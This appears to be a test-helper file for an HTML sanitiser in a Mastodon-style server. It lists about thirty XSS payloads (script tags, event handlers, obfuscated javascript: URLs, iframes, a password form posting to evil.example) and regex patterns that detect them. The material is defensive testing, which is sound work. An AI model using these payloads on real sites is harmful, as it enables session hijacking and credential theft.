/**
 * XSS vectors a hostile server may send as HTML, and the checks that what
 * Islet hands to clients carries none of them while harmless markup stays.
 */
import assert from "node:assert/strict";

/** XSS vectors, by kind; every one goes into the bio, a field value, a post, an edit and a poll option. */
export const VECTORS: readonly { kind: string; html: string }[] = [
  { kind: "script", html: `<script>alert(1)</script>` },
  { kind: "script", html: `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>` },
  { kind: "script", html: `<scr<script>ipt>alert(1)</scr</script>ipt>` },
  { kind: "event handler", html: `<img src="x" onerror="alert(1)">` },
  { kind: "event handler", html: `<IMG SRC=x ONERROR=alert(1)>` },
  { kind: "event handler", html: `<svg onload="alert(1)"><circle r="1"/></svg>` },
  { kind: "event handler", html: `<p onclick="alert(1)" onmouseover=alert(1)>hover me</p>` },
  { kind: "event handler", html: `<a href="https://ok.example/" onfocus="alert(1)" autofocus>focus</a>` },
  { kind: "javascript: URL", html: `<a href="javascript:alert(1)">plain</a>` },
  { kind: "javascript: URL", html: `<A HREF="JaVaScRiPt:alert(1)">upper case</A>` },
  { kind: "javascript: URL", html: `<a href="javascript&#58;alert(1)">entity colon</a>` },
  { kind: "javascript: URL", html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">all entities</a>` },
  { kind: "javascript: URL", html: `<a href="java&#x09;script:alert(1)">tab inside</a>` },
  { kind: "javascript: URL", html: `<a href=" &#14;javascript:alert(1)">leading control</a>` },
  { kind: "data: URL", html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>` },
  { kind: "vbscript: URL", html: `<a href="vbscript:msgbox(1)">vbscript</a>` },
  { kind: "iframe", html: `<iframe src="https://evil.example/"></iframe>` },
  { kind: "iframe", html: `<IFRAME SRCDOC="&lt;script&gt;alert(1)&lt;/script&gt;"></IFRAME>` },
  { kind: "style", html: `<style>body { display: none }</style>` },
  { kind: "style", html: `<span style="position:fixed;inset:0;background:url(javascript:alert(1))">overlay</span>` },
  { kind: "object/embed", html: `<object data="https://evil.example/x.swf"><param name="a" value="b"></object>` },
  { kind: "object/embed", html: `<embed src="https://evil.example/x.swf">` },
  { kind: "form", html: `<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>` },
  { kind: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { kind: "other", html: `<base href="javascript:alert(1)//">` },
  { kind: "other", html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { kind: "other", html: `<math><mi xlink:href="javascript:alert(1)">x</mi></math>` },
  { kind: "other", html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
];

export const HOSTILE = VECTORS.map((vector) => vector.html).join("\n");

/** What a client must never be handed inside an HTML string. */
const FORBIDDEN: readonly [RegExp, string][] = [
  [/<\s*script/i, "a script element"],
  [/<[^>]*\son[a-z]+\s*=/i, "an event handler attribute"],
  [/javascript\s*(?::|&#0*58;|&#x0*3a;|&colon;)/i, "a javascript: URL"],
  [/(?:href|src|action)\s*=\s*["']?\s*(?:data|vbscript):/i, "a data: or vbscript: URL"],
  [/<\s*iframe/i, "an iframe"],
  [/<\s*style|\sstyle\s*=/i, "a style"],
  [/<\s*(?:svg|math|object|embed|form|input|button|meta|base|link|img|noscript)\b/i, "an element outside the allow-list"],
];

/** Keys whose values are plain text (clients escape them), as in Mastodon's API. */
const PLAIN_TEXT_KEYS = new Set(["display_name", "spoiler_text", "title", "name"]);

/**
 * Walks a JSON answer: every string not under a plain-text key is HTML or
 * a URL a client may render, and must hold nothing from FORBIDDEN.
 */
export function assertNoActiveContent(value: unknown, where: string, path = "$"): void {
  if (typeof value === "string") {
    for (const [pattern, what] of FORBIDDEN) {
      assert.doesNotMatch(value, pattern, `${where}: ${path} holds ${what}: ${value}`);
    }
  } else if (Array.isArray(value)) {
    value.forEach((item, i) => assertNoActiveContent(item, where, `${path}[${i}]`));
  } else if (value != null && typeof value === "object") {
    for (const [key, item] of Object.entries(value)) {
      if (PLAIN_TEXT_KEYS.has(key) && typeof item === "string") continue;
      assertNoActiveContent(item, where, `${path}.${key}`);
    }
  }
}

/** Some HTML strings must be there at all, or the walk proves nothing. */
export function assertHarmlessKept(html: string, where: string): void {
  assert.match(html, /<p>/, `${where}: paragraphs survive`);
  assert.match(html, /<a href="https:\/\/example\.com\/page" rel="nofollow noopener" target="_blank">a link<\/a>/, `${where}: links survive, marked nofollow: ${html}`);
  assert.match(html, /<b>bold<\/b>/, `${where}: emphasis survives`);
}

/** Markup that must survive sanitising: a paragraph, emphasis, a link. */
export const HARMLESS = `<p>Hello, <b>bold</b> and <a href="https://example.com/page">a link</a>.</p>`;
